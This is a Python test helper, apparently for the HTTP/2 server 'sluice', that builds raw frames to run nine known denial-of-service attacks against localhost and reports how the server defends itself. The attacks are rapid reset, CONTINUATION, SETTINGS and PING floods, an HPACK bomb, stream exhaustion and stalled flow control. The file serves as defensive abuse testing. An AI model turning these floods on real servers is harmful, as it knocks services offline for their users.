#!/usr/bin/python3
"""HTTP/2 attacks on sluice with hand-built frames, for the abuse tests (h2_abuse_test.cpp).

Usage: h2_attack.py ATTACK PORT [--connections N] [--seconds S]
Runs ATTACK on up to N fresh h2c connections (prior knowledge), one after the other, for at most S seconds,
and prints one JSON line: connections made, how many ended with GOAWAY ENHANCE_YOUR_CALM (goaway_calm) or
another GOAWAY, how many the server closed, the frames sent (in all, and most on one connection before it
ended), response HEADERS received, RST_STREAMs received (REFUSED_STREAM or other). Every wait is bounded; nothing here sleeps to hope.
"""
import json
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first_byte_flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7) + b


def literal(name, value):
    """Literal field without indexing, new name (RFC 7541 §6.2.2)."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def literal_indexed(name, value):
    """Literal field with incremental indexing, new name: the field enters the dynamic table."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def request_block(path="/", method="GET", authority="127.0.0.1"):
    block = b"\x82" if method == "GET" else b"\x83"  # :method GET / POST (static 2 / 3)
    block += b"\x86"  # :scheme http
    block += b"\x04" + hpack_str(path)  # :path, literal with the static name 4
    block += b"\x01" + hpack_str(authority)  # :authority, static name 1
    return block


# RFC 7541 Appendix B codes of the digits: enough Huffman to read a :status.
HUFFMAN_DIGITS = {"00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4", "011011": "5",
                  "011100": "6", "011101": "7", "011110": "8", "011111": "9"}
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def response_status(block):
    """The :status a response header block begins with (static entry or literal), or None."""
    while block and block[0] & 0xE0 == 0x20:  # dynamic table size updates (small ones)
        block = block[1:]
    if not block:
        return None
    first = block[0]
    if first & 0x80:
        return STATIC_STATUS.get(first & 0x7F)
    if first not in (0x48, 0x08, 0x18):  # literal with the static name 8 (:status)
        return None
    huffman, length = block[1] & 0x80, block[1] & 0x7F
    raw = block[2:2 + length]
    if not huffman:
        return int(raw.decode())
    bits, code, digits = "".join(f"{b:08b}" for b in raw), "", ""
    for bit in bits:
        code += bit
        if code in HUFFMAN_DIGITS:
            digits += HUFFMAN_DIGITS[code]
            code = ""
        if len(digits) == 3:
            break
    return int(digits) if len(digits) == 3 else None


class Conn:
    """One client connection; reads frames as they come and remembers what matters."""

    def __init__(self, port, settings=b""):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.goaway = None  # error code
        self.goaway_last_stream = 0
        self.closed = False
        self.rst = {}
        self.responses = 0  # HEADERS frames received
        self.statuses = []  # :status of those that begin with it
        self.sent = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        try:
            self.sock.settimeout(10)  # poll() leaves a tiny timeout behind
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            self.closed = True
            return False

    def poll(self, timeout=0.0):
        """Reads what is there (waiting up to `timeout` for the first bytes) and parses whole frames."""
        self.sock.settimeout(timeout if timeout > 0 else 0.000001)
        try:
            for _ in range(16):  # at most 1 MiB a call, so a server that keeps sending cannot hold us here
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    break
                self.buf += chunk
                self.sock.settimeout(0.000001)
        except (socket.timeout, BlockingIOError):
            pass
        except (ConnectionResetError, OSError):
            self.closed = True
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\x00" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                break
            ftype, flags = self.buf[3], self.buf[4]
            stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == GOAWAY and len(payload) >= 8:
                self.goaway_last_stream = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif ftype == RST_STREAM and len(payload) == 4:
                code = struct.unpack(">I", payload)[0]
                self.rst[code] = self.rst.get(code, 0) + 1
            elif ftype == HEADERS:
                self.responses += 1
                status = response_status(payload[5:] if flags & 0x20 else payload)
                if status is not None:
                    self.statuses.append(status)
            elif ftype == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))

    def ended(self):
        return self.closed or self.goaway is not None

    def wait_end(self, seconds):
        """Reads until the server closes the connection or `seconds` pass; True when it closed."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.poll(0.05)
        return self.closed

    def close(self):
        self.sock.close()


def flood(conn, make_batch, limit):
    """Sends batches until the server ends the connection or `limit` frames went out."""
    while conn.sent < limit and not conn.ended():
        frames, count = make_batch(conn)
        if not conn.send(frames):
            break
        conn.sent += count
        conn.poll()


def rapid_reset(port):
    conn = Conn(port)
    state = {"id": 1}

    def batch(_):
        out = b""
        for _ in range(50):
            sid = state["id"]
            state["id"] += 2
            out += frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block("/"))
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))  # CANCEL
        return out, 50

    flood(conn, batch, 100000)
    return conn


def continuation_flood(port):
    conn = Conn(port)
    conn.poll(0.3)  # the server's SETTINGS, acknowledged now: nothing may come between the frames of a block
    conn.send(frame(HEADERS, 0, 1, request_block("/")))  # no END_HEADERS: CONTINUATION must follow
    piece = literal("x-flood", "a" * 100)
    flood(conn, lambda _: (frame(CONTINUATION, 0, 1, piece), 1), 10000)
    return conn


def settings_flood(port):
    conn = Conn(port)
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535))  # INITIAL_WINDOW_SIZE, unchanged
    flood(conn, lambda _: (one * 100, 100), 200000)
    return conn


def ping_flood(port):
    conn = Conn(port)
    one = frame(PING, 0, 0, b"12345678")
    flood(conn, lambda _: (one * 100, 100), 200000)
    return conn


def empty_frames(port):
    conn = Conn(port)
    conn.send(frame(HEADERS, END_HEADERS, 1, request_block("/sink", "POST")))
    one = frame(DATA, 0, 1)
    flood(conn, lambda _: (one * 100, 100), 200000)
    return conn


def hpack_bomb(port):
    """One 4 KiB field in the dynamic table, then streams whose blocks name it thousands of times."""
    conn = Conn(port)
    state = {"id": 1}

    def batch(_):
        sid = state["id"]
        state["id"] += 2
        block = request_block("/")
        if sid == 1:
            block += literal_indexed("x-bomb", "b" * 4000)
        block += b"\xbe" * 16000  # index 62: the first dynamic entry, 4 KiB each time
        return frame(HEADERS, END_STREAM | END_HEADERS, sid, block[:16384]), 1

    flood(conn, batch, 5000)
    return conn


def too_many_streams(port):
    """Keeps opening streams to a slow endpoint, far beyond SETTINGS_MAX_CONCURRENT_STREAMS."""
    conn = Conn(port)
    state = {"id": 1}

    def batch(_):
        out = b""
        for _ in range(50):
            out += frame(HEADERS, END_STREAM | END_HEADERS, state["id"], request_block("/delay/3000"))
            state["id"] += 2
        return out, 50

    flood(conn, batch, 100000)
    return conn


def window_never_opened(port):
    """INITIAL_WINDOW_SIZE 0: responses are asked for and never let through; the socket is read."""
    conn = Conn(port, struct.pack(">HI", 0x4, 0))
    out = b""
    for i in range(20):
        out += frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, request_block("/bytes/1000000"))
    conn.send(out)
    conn.sent = 20
    deadline = time.monotonic() + 60
    while not conn.ended() and time.monotonic() < deadline:
        conn.poll(0.05)
    return conn


def socket_never_read(port):
    """Large responses asked for with wide-open windows, and the socket never read until it is closed."""
    conn = Conn(port, struct.pack(">HI", 0x4, 0x7FFFFFFF))
    out = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
    for i in range(20):
        out += frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, request_block("/bytes/10000000"))
    conn.send(out)
    conn.sent = 20
    # Not reading is the attack: 6 s without a single read (the tests' stall timeout is 1.5 s), then
    # everything is read to see whether the server has given up: its stream ends in EOF or a reset.
    time.sleep(6)
    return conn


ATTACKS = {f.__name__: f for f in (rapid_reset, continuation_flood, settings_flood, ping_flood, empty_frames,
                                    hpack_bomb, too_many_streams, window_never_opened, socket_never_read)}


def main():
    attack, port = sys.argv[1], int(sys.argv[2])
    connections, seconds = 3, 20.0
    args = sys.argv[3:]
    while args:
        if args[0] == "--connections":
            connections = int(args[1])
        elif args[0] == "--seconds":
            seconds = float(args[1])
        args = args[2:]
    summary = {"attack": attack, "connections": 0, "goaway_calm": 0, "goaway_other": 0, "closed": 0,
               "frames_sent": 0, "max_frames_before_end": 0, "max_goaway_last_stream": 0, "goaway_codes": [], "responses": 0, "rst_refused": 0, "rst_other": 0}
    deadline = time.monotonic() + seconds
    while summary["connections"] < connections and time.monotonic() < deadline:
        conn = ATTACKS[attack](port)
        closed = conn.wait_end(10)
        summary["connections"] += 1
        if conn.goaway is not None:
            summary["goaway_calm" if conn.goaway == 0xB else "goaway_other"] += 1
            if conn.goaway not in summary["goaway_codes"]:
                summary["goaway_codes"].append(conn.goaway)
            summary["max_goaway_last_stream"] = max(summary["max_goaway_last_stream"], conn.goaway_last_stream)
        summary["closed"] += 1 if closed else 0
        summary["frames_sent"] += conn.sent
        summary["max_frames_before_end"] = max(summary["max_frames_before_end"], conn.sent)
        summary["responses"] += conn.responses
        for code, n in conn.rst.items():
            summary["rst_refused" if code == 0x7 else "rst_other"] += n
        conn.close()
    print(json.dumps(summary), flush=True)


if __name__ == "__main__":
    main()
